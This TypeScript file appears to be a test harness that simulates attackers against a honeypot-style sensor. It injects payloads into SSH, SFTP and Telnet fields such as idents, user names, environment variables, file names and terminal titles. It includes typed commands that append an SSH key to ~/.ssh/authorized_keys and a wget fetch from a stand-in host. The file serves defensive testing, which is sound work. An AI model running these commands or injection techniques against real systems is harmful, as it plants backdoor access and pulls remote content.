// Attackers who put a text wherever the protocols let them: real connections to the sensor, each field with its own payloads.
import { connect } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { Client, message, text, u32 } from '../real/ssh/client.ts';

/** Milliseconds that one answer is waited for; what comes later is not of interest. */
const PATIENCE = 5_000;
const SILENT = 2_500;
/** Commands at once in one connection: sshd's MaxSessions less those that a terminal and SFTP need. */
export const TOGETHER = 8;
const FILE_WRITE = 0x02 | 0x08 | 0x10;

/** Runs `job` for each item, so many at once; on a busy machine a connection may be lost, and is tried again. */
export async function each<T>(items: readonly T[], atOnce: number, job: (item: T) => Promise<void>): Promise<void> {
  const waiting = [...items];
  await Promise.all(
    Array.from({ length: atOnce }, async () => {
      for (let item = waiting.shift(); item !== undefined; item = waiting.shift()) {
        const one = item;
        await job(one)
          .catch(() => job(one))
          .catch(() => job(one));
      }
    }),
  );
}

/** What fits into one line of the protocol: no end of line, no NUL. */
export const line = (payload: string): string => payload.replace(/[\r\n\0]/g, ' ');
/** What a shell prints as it is: controls would be keys. */
const quoted = (payload: string): string => `'${payload.replace(/[\0-\x1f\x7f]/g, '').replaceAll("'", "'\\''")}'`;
/** Strings of the probing client are strings of bytes; a NUL in one would end the connection. */
const bytes = (payload: string): string => Buffer.from(payload.replaceAll('\0', '')).toString('latin1');

async function begin(port: number, ident: string, kex = ''): Promise<Client> {
  const client = new Client(port);
  client.clientIdent = bytes(`SSH-2.0-${line(ident)}`);
  await client.raw(Buffer.from(`${client.clientIdent}\r\n`, 'latin1')).ident('');
  await client.exchange({}, client.kexInit({ kex: `curve25519-sha256${kex && `,${bytes(kex)}`}` }));
  client.send(message(5, 'ssh-userauth'));
  await client.until(6);
  return client;
}

/** Says who it is, logs in with user name and password, and leaves: one payload in all three, and in the names of algorithms. */
export async function visit(port: number, payload: string): Promise<void> {
  const client = await begin(port, payload, payload.replace(/[,\0]/g, ';'));
  client.send(message(50, bytes(payload), 'ssh-connection', 'password', false, bytes(payload)));
  await client.until(52);
  client.close();
}

/** One long session with several payloads in every field that is left. */
export async function stay(port: number, payloads: readonly string[]): Promise<void> {
  const user = bytes(payloads[0]!);
  const client = await begin(port, payloads[0]!);
  client.send(message(50, user, 'ssh-connection', 'publickey', false, user, text(user)));
  client.send(message(50, user, 'ssh-connection', 'password', false, user));
  await client.until(52);
  for (let at = 0; at < payloads.length; at += TOGETHER)
    await commands(client, payloads.slice(at, at + TOGETHER).map(bytes));
  for (const payload of payloads.map(bytes))
    client.send(message(90, 'direct-tcpip', 99, 1 << 16, 1 << 14, payload, 80, payload, 4711));
  await terminal(client, payloads);
  await client.pause(100);
  client.close();
}

/** Brings files named by the payloads, and asks for some whose URLs hold them; nobody waits for answers that never come. */
export async function bring(port: number, payloads: readonly string[]): Promise<void> {
  const client = await begin(port, 'files');
  client.send(message(50, 'root', 'ssh-connection', 'password', false, 'files'));
  await client.until(52);
  await upload(client, payloads.map(bytes));
  for (const [channel, payload] of payloads.entries()) {
    if (!(await opened(client, channel + 1))) continue;
    client.request('exec', true, bytes(`wget -q http://198.51.100.9/${quoted(payload)}`));
  }
  await quiet(client, 800);
  client.close();
}

/** Commands without a terminal, side by side, each in the environment too. sshd's MaxSessions is 10. */
async function commands(client: Client, lines: readonly string[]): Promise<void> {
  const channels: number[] = [];
  for (const command of lines) {
    if (!(await opened(client, channels.length))) continue;
    channels.push(client.channel);
    client.request('env', false, command, command);
    client.request('exec', true, command);
  }
  await ended(client, channels.length);
  for (const channel of channels) client.send(message(97, channel));
  await quiet(client);
}

/** Whether a session channel could be opened: commands that still wait may take all that there are. */
async function opened(client: Client, id = 0): Promise<boolean> {
  client.send(message(90, 'session', id, 1 << 20, 1 << 15));
  for (let payload = await client.next(PATIENCE); payload; payload = await client.next(PATIENCE)) {
    if (payload[0] === 91) client.channel = payload.readUInt32BE(5);
    if (payload[0] === 91 || payload[0] === 92) return payload[0] === 91;
  }
  return false;
}

/** A terminal of that type; titles and texts are drawn into its recording. */
async function terminal(client: Client, payloads: readonly string[]): Promise<void> {
  if (!(await opened(client))) return;
  client.request('pty-req', true, bytes(payloads[0]!), 80, 24, 0, 0, '\0');
  client.request('shell', true);
  await quiet(client);
  for (const payload of payloads) {
    const lines = [
      `echo ${quoted(payload)}`,
      `printf '\\033]0;%s\\007\\033]2;%s\\033\\\\' ${quoted(payload)} ${quoted(payload)}`,
      `echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIA" ${quoted(payload)} >> ~/.ssh/authorized_keys`,
    ];
    for (const typed of lines) client.send(message(94, client.channel, bytes(`${typed}\r`)));
  }
  await quiet(client, 200);
  client.send(message(94, client.channel, 'exit\r'));
  await ended(client, 1);
}

/** Files by SFTP (version 3) whose names and contents are payloads. */
async function upload(client: Client, payloads: readonly string[]): Promise<void> {
  if (!(await opened(client))) return;
  client.request('subsystem', true, 'sftp');
  const packet = (type: number, ...parts: Parameters<typeof message>[1][]) => {
    const body = message(type, ...parts);
    client.send(message(94, client.channel, text(Buffer.concat([u32(body.length), body]))));
  };
  packet(1, 3);
  await quiet(client);
  for (const [index, payload] of payloads.entries()) {
    const id = index + 1;
    const path = `/tmp/${payload.replaceAll('\0', '')}`;
    for (let at = path.indexOf('/', 5); at > 0; at = path.indexOf('/', at + 1)) packet(14, 0, path.slice(0, at), 0);
    packet(3, id, path, FILE_WRITE, 0);
    const handle = await handleOf(client, id);
    if (!handle) continue;
    packet(6, id, text(handle), 0, 0, payload);
    packet(4, id, text(handle));
  }
}

/** The handle that opening a file gave; undefined when it was refused. */
async function handleOf(client: Client, id: number): Promise<Buffer | undefined> {
  for (let payload = await client.next(PATIENCE); payload; payload = await client.next(PATIENCE)) {
    if (payload[0] !== 94) continue;
    // Behind channel and length, packets: length, type, request, then a string or a status.
    for (let at = 9; at + 13 <= payload.length; at += 4 + payload.readUInt32BE(at)) {
      if (payload.readUInt32BE(at + 5) !== id) continue;
      if (payload[at + 4] === 102) return payload.subarray(at + 13, at + 13 + payload.readUInt32BE(at + 9));
      if (payload[at + 4] === 101) return undefined;
    }
  }
  return undefined;
}

/** Waits for so many channels to be closed; one that is silent too long waits for input and is left alone. */
async function ended(client: Client, channels: number): Promise<void> {
  for (let closed = 0; closed < channels; ) {
    const payload = await client.next(SILENT);
    if (!payload) return;
    if (payload[0] === 97) closed++;
  }
}

/** Takes what comes until nothing more does for a moment. */
async function quiet(client: Client, ms = 50): Promise<void> {
  while (await client.next(ms));
}

const IAC = 255;
const [SB, SE, WILL, DO] = [250, 240, 251, 253];
const [TTYPE, NEW_ENVIRON, XDISPLOC] = [24, 39, 35];

/** A Telnet client that agrees to tell everything about itself, logs in and types. */
export async function dial(port: number, payloads: readonly string[]): Promise<void> {
  const [first = ''] = payloads;
  const socket = connect(port, '127.0.0.1');
  socket.on('error', () => {});
  let seen = '';
  const told = (option: number, content: Buffer) =>
    socket.write(Buffer.concat([Buffer.of(IAC, SB, option, 0), content, Buffer.of(IAC, SE)]));
  const variables = Buffer.concat(
    payloads.flatMap((payload) => {
      const bytes = Buffer.from(payload.replace(/[\0-\x03]/g, ''));
      return [Buffer.of(3), bytes, Buffer.of(1), bytes];
    }),
  );
  socket.on('data', (chunk: Buffer) => {
    for (let i = 0; i < chunk.length; i++) {
      if (chunk[i] !== IAC) {
        seen += String.fromCharCode(chunk[i]!);
        continue;
      }
      const [verb, option] = [chunk[i + 1]!, chunk[i + 2]!];
      const wanted = [TTYPE, NEW_ENVIRON, XDISPLOC].includes(option);
      if (verb === DO) socket.write(Buffer.of(IAC, wanted ? WILL : 252, option));
      if (verb === WILL) socket.write(Buffer.of(IAC, DO, option));
      if (verb === SB) {
        if (option === NEW_ENVIRON) told(option, variables);
        else if (wanted) told(option, Buffer.from(first));
        while (i < chunk.length && !(chunk[i] === IAC && chunk[i + 1] === SE)) i++;
        i--;
      }
      i += 2;
    }
  });
  const expect = async (pattern: RegExp) => {
    for (const end = Date.now() + PATIENCE; !pattern.test(seen) && Date.now() < end; ) await sleep(10);
    seen = '';
  };
  try {
    await expect(/ogin: ?$/);
    socket.write(`${line(first)}\r\n`);
    await expect(/assword: ?$/);
    socket.write(`${line(first)}\r\n`);
    await expect(/[#$] $/);
    for (const payload of payloads) {
      // What the line leaves open is ended before the next one.
      socket.write(`${line(payload)}\r\n\x03\r\n`);
      await sleep(20);
    }
    await sleep(50);
  } finally {
    socket.destroy();
  }
}
